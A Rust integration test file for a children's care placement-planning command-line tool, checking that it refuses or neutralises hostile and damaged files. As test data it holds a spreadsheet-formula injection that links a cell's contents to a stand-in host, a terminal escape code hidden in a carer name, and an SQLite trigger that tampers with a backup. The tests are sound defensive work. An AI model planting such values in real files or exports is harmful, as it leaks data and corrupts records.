//! Hostile files and bad luck (issue 14), each fault with its test: a
//! command piped into a reader that stops (`| head -1`) exits quietly and
//! still does its work; an empty file or another program's SQLite file is
//! refused and left as it was; a name that is a spreadsheet formula is
//! exported as text; an absurd reference period is refused, not a panic.

mod common;

use common::files::{write_csv, SSDA903_EPISODES, SSDA903_HEADER};
use placement_planner::store::Store;
use std::process::{Command, Stdio};

/// A new empty database in `dir`, made with `new`.
fn new_db(dir: &tempfile::TempDir) -> std::path::PathBuf {
    let db = dir.path().join("c.sqlite");
    common::succeeds(common::planner().arg("new").arg("--db").arg(&db));
    db
}

/// What the command printed, whether or not it succeeded.
fn printed(cmd: &mut assert_cmd::Command) -> String {
    String::from_utf8_lossy(&cmd.output().unwrap().stdout).into_owned()
}

/// The command's failure message (it must fail).
fn fails(cmd: &mut assert_cmd::Command) -> String {
    let out = cmd.output().unwrap();
    assert!(!out.status.success(), "it succeeded");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!stderr.contains("panicked"), "{stderr}");
    stderr
}

/// Runs the command with its standard output a pipe nobody reads: the
/// reading end is closed before the command writes anything. Returns
/// whether it succeeded and what it wrote to standard error.
fn with_stdout_closed(args: &[&str]) -> (bool, String) {
    let mut child = Command::new(assert_cmd::cargo::cargo_bin("placement-planner"))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn an_import_piped_into_a_closed_reader_is_still_done() {
    let dir = tempfile::tempdir().unwrap();
    let db = new_db(&dir);
    let db_arg = db.to_str().unwrap();
    let h = write_csv(
        dir.path(),
        "header.csv",
        SSDA903_HEADER,
        &["P1,1,01/05/2012,WBRI,,,", "P2,2,01/05/2010,WBRI,,,"],
    );
    let e = write_csv(
        dir.path(),
        "episodes_2025-26.csv",
        SSDA903_EPISODES,
        &[
            "P1,10/04/2025,S,C2,N1,U4,PR4,,,,,,",
            "P2,01/05/2025,S,C2,N1,U6,PR1,,,,,,",
        ],
    );
    let (ok, stderr) = with_stdout_closed(&[
        "import",
        "ssda903",
        h.to_str().unwrap(),
        e.to_str().unwrap(),
        "--db",
        db_arg,
    ]);
    assert!(ok, "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(stderr, "");
    let store = Store::open(&db).unwrap();
    assert_eq!(store.children().unwrap().len(), 2);
    assert_eq!(store.placements().unwrap().len(), 2);
}

#[test]
fn a_long_listing_into_a_closed_reader_exits_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::sample_db(dir.path());
    for args in [
        vec!["audit", "--db", db.to_str().unwrap()],
        vec!["report", "sufficiency", "--db", db.to_str().unwrap()],
        vec!["rates", "--db", db.to_str().unwrap()],
    ] {
        let (ok, stderr) = with_stdout_closed(&args);
        assert!(ok, "{args:?}: {stderr}");
        assert_eq!(stderr, "", "{args:?}");
    }
}

/// Fault 1: a zero-byte file (a sync cut short) is not a new database.
#[test]
fn an_empty_file_is_refused_and_stays_empty() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("zero.db");
    std::fs::write(&db, b"").unwrap();
    let err = fails(common::planner().args(["settings", "--db"]).arg(&db));
    assert!(
        err.contains("the file is empty (0 bytes), so it is not a placement-planner database"),
        "{err}"
    );
    assert_eq!(std::fs::metadata(&db).unwrap().len(), 0);
    // Nor does an import write into it.
    let err = fails(
        common::planner()
            .args(["rates", "set", "ifa_fostering", "2025", "900", "--db"])
            .arg(&db),
    );
    assert!(err.contains("0 bytes"), "{err}");
    assert_eq!(std::fs::metadata(&db).unwrap().len(), 0);
}

/// Fault 2: another application's SQLite file is never migrated.
#[test]
fn another_programs_sqlite_file_is_refused_and_left_alone() {
    let dir = tempfile::tempdir().unwrap();
    for (name, sql) in [
        (
            "notes.sqlite",
            "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT);",
        ),
        (
            "settings.sqlite",
            "CREATE TABLE settings (key TEXT PRIMARY KEY, value TEXT); \
             INSERT INTO settings VALUES ('theme', 'dark');",
        ),
    ] {
        let path = dir.path().join(name);
        {
            let conn = rusqlite::Connection::open(&path).unwrap();
            conn.execute_batch(sql).unwrap();
        }
        let before = std::fs::read(&path).unwrap();
        let err = fails(common::planner().args(["settings", "--db"]).arg(&path));
        assert!(
            err.contains("not a placement-planner database: it is another program's SQLite file"),
            "{err}"
        );
        assert!(err.lines().count() <= 2, "a short message, not SQL: {err}");
        assert_eq!(std::fs::read(&path).unwrap(), before, "{name} changed");
        assert!(!dir.path().join(format!("{name}-wal")).exists());
    }
}

/// Fault 6: a name that is a spreadsheet formula is exported as text.
#[test]
fn names_that_are_formulas_are_exported_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = new_db(&dir);
    let db_arg = db.to_str().unwrap();
    let formula = "=HYPERLINK(\"http://example.invalid/?\"&B2,\"Click\")";
    {
        let mut s = Store::open(&db).unwrap();
        let mut c = common::records::child_in_care("F1", jiff::civil::date(2025, 4, 1));
        c.name = formula.into();
        s.insert_child(&c).unwrap();
        s.insert_placement(&common::records::placement_elsewhere(
            "F1",
            jiff::civil::date(2025, 4, 1),
            placement_planner::model::PlaceCode::U6,
            Some(placement_planner::model::ProviderCode::PR1),
        ))
        .unwrap();
    }
    let out = dir.path().join("summary.csv");
    common::succeeds(
        common::planner()
            .args([
                "export",
                "summary",
                "--with-names",
                "--as-at",
                "01/06/2025",
                "--db",
                db_arg,
                "--out",
            ])
            .arg(&out),
    );
    let written = dir.path().join("summary-WITH-NAMES.csv");
    let mut rdr = csv::Reader::from_path(&written).unwrap();
    let head = rdr.headers().unwrap().clone();
    let name_col = head.iter().position(|h| h == "name").unwrap();
    let rec = rdr.records().next().unwrap().unwrap();
    assert_eq!(&rec[name_col], format!("'{formula}"));
}

/// Fault 7: an absurd reference period is refused with the range, not a
/// panic deep in the date library.
#[test]
fn an_absurd_reference_period_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::sample_db(dir.path());
    let levers = dir.path().join("none.toml");
    std::fs::write(&levers, "").unwrap();
    let err = fails(
        common::planner()
            .args(["scenario", "run", "--reference-months", "300000", "--db"])
            .arg(&db)
            .arg("--scenario")
            .arg(&levers),
    );
    assert!(err.contains("300000 is not in 1..=120"), "{err}");
    let err = fails(
        common::planner()
            .args([
                "scenario",
                "backtest",
                "--start",
                "01/04/2024",
                "--months",
                "12",
                "--reference-months",
                "4294967295",
                "--db",
            ])
            .arg(&db),
    );
    assert!(err.contains("is not in 1..=120"), "{err}");
    // The library's month arithmetic gives the start back rather than
    // panicking when asked for a date jiff cannot hold.
    let start = jiff::civil::date(2025, 4, 1);
    assert_eq!(
        placement_planner::scenario::baseline::add_months(start, -300_000),
        start
    );
    assert_eq!(
        placement_planner::scenario::baseline::add_months(start, -1),
        jiff::civil::date(2025, 3, 1)
    );
}

/// Fault 3: a backup holding a trigger placement-planner never wrote is
/// neither restored nor opened.
#[test]
fn a_tampered_backup_is_refused_and_the_database_kept() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::sample_db(dir.path());
    common::succeeds(common::planner().args(["backup", "--db"]).arg(&db));
    let backup = placement_planner::store::list_backups(&db).unwrap()[0]
        .path
        .clone();
    {
        let conn = rusqlite::Connection::open(&backup).unwrap();
        conn.execute_batch(
            "CREATE TRIGGER zz AFTER INSERT ON carers BEGIN \
             UPDATE carers SET weekly_cost_pence = weekly_cost_pence * 10; END;",
        )
        .unwrap();
    }
    let carers_before = Store::open(&db).unwrap().carers().unwrap();
    let err = fails(
        common::planner()
            .args(["restore", "--yes", "--db"])
            .arg(&db)
            .arg(&backup),
    );
    assert!(
        err.contains("it holds what placement-planner never wrote (trigger zz)"),
        "{err}"
    );
    assert_eq!(Store::open(&db).unwrap().carers().unwrap(), carers_before);
    // Opening the tampered file itself is refused the same way.
    let err = fails(common::planner().args(["settings", "--db"]).arg(&backup));
    assert!(err.contains("trigger zz"), "{err}");
    // A changed table is caught as well as an added object.
    let other = dir.path().join("altered.sqlite");
    std::fs::copy(&db, &other).unwrap();
    {
        let conn = rusqlite::Connection::open(&other).unwrap();
        conn.execute_batch("ALTER TABLE carers ADD COLUMN secret TEXT;")
            .unwrap();
    }
    let err = fails(common::planner().args(["settings", "--db"]).arg(&other));
    assert!(err.contains("table carers (changed)"), "{err}");
}

/// Fault 4: what a backup cut short leaves (an empty reserved name, an old
/// `.partial-PID` copy) is never listed or counted, and is cleared.
#[test]
fn a_backup_cut_short_leaves_nothing_that_counts() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::sample_db(dir.path());
    common::succeeds(common::planner().args(["backup", "--db"]).arg(&db));
    let folder = placement_planner::store::backups_dir(&db);
    let real = placement_planner::store::list_backups(&db).unwrap();
    assert_eq!(real.len(), 1);
    // As a power cut during a backup leaves them: the reserved name, empty,
    // and the copy being written, an hour old.
    let reserved = folder.join("county-20250101-000000.sqlite");
    std::fs::write(&reserved, b"").unwrap();
    let partial = folder.join("county-20250101-000000.sqlite.partial-424242");
    std::fs::write(&partial, vec![0u8; 4096]).unwrap();
    let an_hour_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
    std::fs::File::options()
        .write(true)
        .open(&partial)
        .unwrap()
        .set_modified(an_hour_ago)
        .unwrap();
    let listed = common::succeeds(common::planner().args(["backups", "--db"]).arg(&db));
    assert!(!listed.contains("20250101"), "{listed}");
    // Keeping two: the real one stays beside the new one.
    common::succeeds(
        common::planner()
            .args(["backup", "--keep", "2", "--db"])
            .arg(&db),
    );
    let after = placement_planner::store::list_backups(&db).unwrap();
    assert_eq!(after.len(), 2);
    assert!(after.iter().any(|b| b.path == real[0].path));
    assert!(!reserved.exists());
    assert!(!partial.exists());
}

const CARERS_HEADER: &str = "id,name,sector,agency,approved_places,age_min,age_max,takes_siblings,specialisms,postcode,weekly_cost,status,approval_date,ended_on";

/// Fault 9: a weekly cost no placement has is refused; one worth a second
/// look (pence typed as pounds?) is imported with a note.
#[test]
fn implausible_weekly_costs_are_refused_or_noted() {
    let dir = tempfile::tempdir().unwrap();
    let db = new_db(&dir);
    let db_arg = db.to_str().unwrap();
    let file = write_csv(
        dir.path(),
        "carers.csv",
        CARERS_HEADER,
        &[
            "FC1,The Ones,in_house,,2,0,17,yes,,,1000000000,active,01/04/2020,",
            "FC2,The Twos,in_house,,2,0,17,yes,,,45050,active,01/04/2020,",
            "FC3,The Threes,in_house,,2,0,17,yes,,,450,active,01/04/2020,",
        ],
    );
    let stdout = printed(
        common::planner()
            .args(["import", "carers", "--dry-run", "--db", db_arg])
            .arg(&file),
    );
    assert!(
        stdout.contains(
            "£1,000,000,000 a week is more than £100,000: check it is in pounds, not pence"
        ),
        "{stdout}"
    );
    assert!(
        stdout.contains("carers.csv line 3, column weekly_cost, value '£45,050.00': £45,050.00 a week is more than £25,000"),
        "{stdout}"
    );
    assert!(
        stdout.contains("2 to add, 0 to update, 0 unchanged, 1 refused"),
        "{stdout}"
    );
}

/// Fault 10: a home's registered beds cannot drop below the children
/// living there (as carers' approved places already could not).
#[test]
fn a_homes_beds_cannot_drop_below_its_children() {
    let dir = tempfile::tempdir().unwrap();
    let mut s = Store::open(&dir.path().join("h.sqlite")).unwrap();
    let home = placement_planner::model::Home {
        id: "H1".into(),
        name: "Hill House".into(),
        provider: "Care Ltd".into(),
        sector: placement_planner::model::HomeSector::Private,
        ofsted_urn: None,
        registered_beds: 2,
        age_min: 8,
        age_max: 17,
        postcode: None,
        location: None,
        weekly_cost_per_bed: placement_planner::model::Pence::from_pounds(5_000),
        closed_on: None,
    };
    s.insert_home(&home).unwrap();
    for id in ["A", "B"] {
        s.insert_child(&common::records::child_in_care(
            id,
            jiff::civil::date(2025, 4, 1),
        ))
        .unwrap();
        s.insert_placement(&placement_planner::model::Placement {
            setting: placement_planner::model::PlacementSetting::Home("H1".into()),
            ..common::records::placement_elsewhere(
                id,
                jiff::civil::date(2025, 4, 1),
                placement_planner::model::PlaceCode::K2,
                Some(placement_planner::model::ProviderCode::PR4),
            )
        })
        .unwrap();
    }
    let err = s
        .update_home(&placement_planner::model::Home {
            registered_beds: 0,
            ..home.clone()
        })
        .unwrap_err();
    assert_eq!(
        err.to_string(),
        "Hill House has 2 children placed there; registered beds cannot drop to 0"
    );
    assert_eq!(s.homes().unwrap()[0].registered_beds, 2);
    // Down to two is fine.
    s.update_home(&placement_planner::model::Home {
        registered_beds: 2,
        name: "Hill House Two".into(),
        ..home
    })
    .unwrap();
}

/// Fault 12: a device or a pipe is refused up front, never read forever.
#[cfg(unix)]
#[test]
fn a_device_or_a_pipe_is_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::sample_db(dir.path());
    let err = fails(
        common::planner()
            .args(["scenario", "run", "--scenario", "/dev/zero", "--db"])
            .arg(&db),
    );
    assert!(err.contains("/dev/zero: it is not a regular file"), "{err}");
    let err = fails(
        common::planner()
            .args(["import", "carers", "/dev/zero", "--db"])
            .arg(&db),
    );
    assert!(err.contains("it is not a regular file"), "{err}");
}

/// Fault 17: control characters are refused in names, and the audit never
/// prints one raw (an escape code could clear the terminal).
#[test]
fn control_characters_are_refused_and_never_echoed() {
    let dir = tempfile::tempdir().unwrap();
    let db = new_db(&dir);
    let db_arg = db.to_str().unwrap();
    let file = write_csv(
        dir.path(),
        "carers.csv",
        CARERS_HEADER,
        &["FC1,The \u{1b}[2JSmiths,in_house,,2,0,17,yes,,,450,active,01/04/2020,"],
    );
    let stdout = printed(
        common::planner()
            .args(["import", "carers", "--db", db_arg])
            .arg(&file),
    );
    assert!(
        stdout.contains("holds a control character (\\u{1b})"),
        "{stdout}"
    );
    // Written outside the app (the sqlite3 shell), then listed.
    {
        let conn = rusqlite::Connection::open(&db).unwrap();
        conn.execute(
            "INSERT INTO settings (key, value) VALUES ('note', ?1)",
            ["bad\u{1b}[2Jvalue"],
        )
        .unwrap();
    }
    let audit = common::succeeds(common::planner().args(["audit", "--db", db_arg]));
    assert!(!audit.contains('\u{1b}'), "{audit}");
    assert!(audit.contains("bad\\u{1b}[2Jvalue"), "{audit}");
}

/// Fault 8: a date that must be past is refused when it is in the future.
#[test]
fn dates_that_must_be_past_are_refused_in_the_future() {
    let dir = tempfile::tempdir().unwrap();
    let db = new_db(&dir);
    let db_arg = db.to_str().unwrap();
    let h = write_csv(
        dir.path(),
        "header.csv",
        SSDA903_HEADER,
        &["Z1,1,01/05/2012,WBRI,,,"],
    );
    let e = write_csv(
        dir.path(),
        "episodes.csv",
        SSDA903_EPISODES,
        &["Z1,12/11/2199,S,C2,N1,U4,PR4,,,,,,"],
    );
    let stdout = printed(
        common::planner()
            .args(["import", "ssda903", "--dry-run", "--db", db_arg])
            .arg(&h)
            .arg(&e),
    );
    assert!(
        stdout.contains(
            "episodes.csv line 2, column DECOM, value '12/11/2199': 12/11/2199 is after today: a return records what has happened"
        ),
        "{stdout}"
    );
    let children = write_csv(
        dir.path(),
        "children.csv",
        "id,name,date_of_birth,sex,legal_status,category_of_need,disability,sibling_group,home_postcode,status,entered_care,left_care",
        &["K1,Kim,01/01/2012,2,C2,N1,no,,,looked_after,01/01/2199,"],
    );
    let stdout = printed(
        common::planner()
            .args(["import", "children", "--dry-run", "--db", db_arg])
            .arg(&children),
    );
    assert!(
        stdout.contains("the date the child entered care is after today"),
        "{stdout}"
    );
}

/// Fault 13: a radius that is no radius, and a projection starting where
/// the records say nothing, are refused; a report on a future day says
/// what it assumes.
#[test]
fn figures_outside_the_records_are_refused_or_qualified() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::sample_db(dir.path());
    let child = Store::open(&db).unwrap().children().unwrap()[0].id.clone();
    for radius in ["-5", "NaN", "inf"] {
        let err = fails(
            common::planner()
                .args([
                    "panel",
                    "candidates",
                    "--child",
                    &child,
                    "--radius",
                    radius,
                    "--db",
                ])
                .arg(&db),
        );
        assert!(err.contains("give 0 to 1000 miles"), "{radius}: {err}");
    }
    let levers = dir.path().join("none.toml");
    std::fs::write(&levers, "").unwrap();
    for (start, why) in [
        (
            "01/01/2199",
            "is more than five years after the records end",
        ),
        ("01/01/1900", "is before the records begin"),
    ] {
        let err = fails(
            common::planner()
                .args(["scenario", "run", "--start", start, "--db"])
                .arg(&db)
                .arg("--scenario")
                .arg(&levers),
        );
        assert!(err.contains(why), "{start}: {err}");
    }
    let text = common::succeeds(
        common::planner()
            .args(["report", "sufficiency", "--as-at", "2199-01-01", "--db"])
            .arg(&db),
    );
    assert!(
        text.contains("01/01/2199 is after today: the figures assume nothing changes after"),
        "{text}"
    );
}

/// Fault 16: `sample` cut short (here by a file-size limit, as a full disk
/// would) leaves nothing under the name, so the retry needs no --force.
#[cfg(unix)]
#[test]
fn a_sample_cut_short_leaves_no_half_made_database() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("county.sqlite");
    let bin = assert_cmd::cargo::cargo_bin("placement-planner");
    // A 1 MB limit on any file written: the sample is about 2.4 MB.
    let status = Command::new("sh")
        .arg("-c")
        .arg("ulimit -f 2048; exec \"$0\" sample --db \"$1\"")
        .arg(&bin)
        .arg(&db)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(!status.success());
    // It was cut short while writing (its partial copy is there) …
    let partials = || -> usize {
        std::fs::read_dir(dir.path())
            .unwrap()
            .filter(|e| {
                e.as_ref()
                    .unwrap()
                    .file_name()
                    .to_string_lossy()
                    .contains(".partial-")
            })
            .count()
    };
    assert!(partials() > 0);
    // … and nothing is under the name.
    assert!(!db.exists(), "a half-made database was left under the name");
    let out = common::succeeds(common::planner().args(["sample", "--db"]).arg(&db));
    assert!(out.starts_with("Wrote the sample county"), "{out}");
    assert_eq!(partials(), 0);
}

/// Messages that were right but unhelpful: a semicolon-separated file, an
/// Excel workbook given as CSV, and a restore preview that is not a failure.
#[test]
fn messages_say_what_the_file_is_and_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::sample_db(dir.path());
    let semi = dir.path().join("carers.csv");
    std::fs::write(&semi, CARERS_HEADER.replace(',', ";") + "\n").unwrap();
    let err = fails(
        common::planner()
            .args(["import", "carers", "--db"])
            .arg(&db)
            .arg(&semi),
    );
    assert!(
        err.contains("the columns are separated by semicolons (;), not commas"),
        "{err}"
    );
    // An .xlsx is a ZIP file: its bytes are never shown as text.
    let workbook = dir.path().join("header.csv");
    std::fs::write(&workbook, b"PK\x03\x04\x14\x00\x06\x00garbage\x00\xff").unwrap();
    for args in [vec!["import", "carers"], vec!["import", "rates"]] {
        let err = fails(
            common::planner()
                .args(&args)
                .arg("--db")
                .arg(&db)
                .arg(&workbook),
        );
        assert!(
            err.contains("it is an Excel workbook (.xlsx), not a CSV file"),
            "{err}"
        );
        assert!(!err.contains("garbage"), "{err}");
    }
    let episodes = write_csv(dir.path(), "episodes.csv", SSDA903_EPISODES, &[]);
    let err = fails(
        common::planner()
            .args(["import", "ssda903", "--db"])
            .arg(&db)
            .arg(&workbook)
            .arg(&episodes),
    );
    assert!(err.contains("it is an Excel workbook (.xlsx)"), "{err}");
    // restore without --yes shows both files and succeeds, changing nothing.
    common::succeeds(common::planner().args(["backup", "--db"]).arg(&db));
    let backup = placement_planner::store::list_backups(&db).unwrap()[0]
        .path
        .clone();
    let out = common::succeeds(
        common::planner()
            .args(["restore", "--db"])
            .arg(&db)
            .arg(&backup),
    );
    assert!(out.contains("Nothing was changed; add --yes"), "{out}");
}

/// Fault 11: a boundary whose ring crosses itself, or with a point off
/// Great Britain's grid, is refused; the council keeps its boundary.
#[test]
fn a_broken_boundary_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::sample_db(dir.path());
    let before = Store::open(&db)
        .unwrap()
        .settings()
        .unwrap()
        .boundary_geojson;
    let feature = |coords: &str| {
        format!(
            r#"{{"type":"FeatureCollection","features":[{{"type":"Feature","properties":{{"CTYUA24CD":"E10000002"}},"geometry":{{"type":"Polygon","coordinates":[{coords}]}}}}]}}"#
        )
    };
    for (name, coords, why) in [
        (
            "twisted.geojson",
            "[[400000,200000],[410000,210000],[410000,200000],[402000,212000],[400000,200000]]",
            "the boundary is not a valid shape",
        ),
        (
            "far.geojson",
            "[[1e308,200000],[410000,210000],[410000,200000],[400000,200000]]",
            "lies outside Great Britain's grid",
        ),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, feature(coords)).unwrap();
        let err = fails(
            common::planner()
                .args(["import", "boundary", "--code", "E10000002", "--db"])
                .arg(&db)
                .arg(&path),
        );
        assert!(err.contains(why), "{name}: {err}");
    }
    assert_eq!(
        Store::open(&db)
            .unwrap()
            .settings()
            .unwrap()
            .boundary_geojson,
        before
    );
}

/// Faults 14 and 15: a command that only reads never changes the file,
/// even an older version's (read through an upgraded copy, and it says
/// so); the first write upgrades it after a backup, and says so.
#[test]
fn an_older_file_is_upgraded_only_by_a_write_and_after_a_backup() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("v6.sqlite");
    std::fs::copy(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/schema/v6.sqlite"),
        &db,
    )
    .unwrap();
    let bytes = std::fs::read(&db).unwrap();
    for args in [
        vec!["report", "sufficiency"],
        vec!["settings"],
        vec!["rates"],
        vec!["audit"],
    ] {
        let out = common::planner()
            .args(&args)
            .arg("--db")
            .arg(&db)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("note: the file is at schema 6; it was read through an upgraded copy and left as it was"),
            "{args:?}: {stderr}"
        );
        assert_eq!(
            std::fs::read(&db).unwrap(),
            bytes,
            "{args:?} changed the file"
        );
        assert!(!dir.path().join("v6.sqlite-wal").exists());
        assert!(!dir.path().join("v6.sqlite-shm").exists());
    }
    assert!(placement_planner::store::list_backups(&db)
        .unwrap()
        .is_empty());
    // The first write upgrades it, after a backup of the file as it was.
    let out = common::planner()
        .args(["rates", "set", "ifa_fostering", "2025", "900", "--db"])
        .arg(&db)
        .output()
        .unwrap();
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("note: upgraded from schema 6 to 7; the file as it was is kept in"),
        "{stderr}"
    );
    let backups = placement_planner::store::list_backups(&db).unwrap();
    assert_eq!(backups.len(), 1);
    assert_eq!(std::fs::read(&backups[0].path).unwrap().len(), bytes.len());
    let version: i64 = rusqlite::Connection::open(&backups[0].path)
        .unwrap()
        .query_row("PRAGMA user_version", [], |r| r.get(0))
        .unwrap();
    assert_eq!(version, 6);
}
